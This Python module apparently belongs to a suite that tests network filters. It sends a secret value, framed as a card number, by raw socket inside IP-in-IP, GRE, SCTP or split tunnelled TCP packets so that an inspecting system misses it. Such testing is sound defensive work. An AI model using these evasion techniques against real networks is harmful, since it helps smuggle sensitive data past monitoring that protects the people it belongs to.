"""Payload of IP protocols that nothing here speaks, by raw socket.

`kind`: `ipip` (an IPv4 datagram with the value inside IPv4), `gre` (the same inside GRE, RFC
2784), `sctp` (a DATA chunk, RFC 9260), `tcp_inside` (a TCP segment in each of two IPv4 packets
inside IPv4: half of the value in each).
"""

from __future__ import annotations

import socket
import struct

from attacks.frames import ETH_IP, Segment, ip4, udp4
from attacks.target import Target, refused

IPIP, GRE, SCTP = 4, 47, 132
INNER = ("10.99.0.1", "10.99.0.2")


def main(target: Target) -> None:
    """Send it."""
    value, half = target.secret, len(target.secret) // 2
    inner = udp4(*INNER, target.port, target.payload)
    begin, rest = b"order 17, card " + value[:half], value[half:] + b", thanks\n"
    kinds = {
        "ipip": (IPIP, [inner]),
        "gre": (GRE, [struct.pack("!HH", 0, ETH_IP) + inner]),
        "sctp": (SCTP, [sctp(target.port, target.payload)]),
        "tcp_inside": (IPIP, [segment(target, 0, begin), segment(target, len(begin), rest)]),
    }
    protocol, packets = kinds[target.args["kind"]]
    with socket.socket(target.af, socket.SOCK_RAW, protocol) as out:
        for packet in packets:
            with refused():
                out.sendto(packet, (target.address, 0))


def segment(target: Target, offset: int, payload: bytes) -> bytes:
    """A segment between two addresses that are nobody's."""
    made = Segment(source_port=40_000, port=target.port, seq=1_000 + offset, payload=payload)
    return ip4(*INNER, socket.IPPROTO_TCP, made.packed(*INNER))


def sctp(port: int, payload: bytes) -> bytes:
    """A common header (checksum left 0) and one DATA chunk."""
    chunk = struct.pack("!BBHIHHI", 0, 3, 16 + len(payload), 1, 0, 0, 0) + payload
    return struct.pack("!HHII", 40_000, port, 1, 0) + chunk + b"\0" * (-len(payload) % 4)
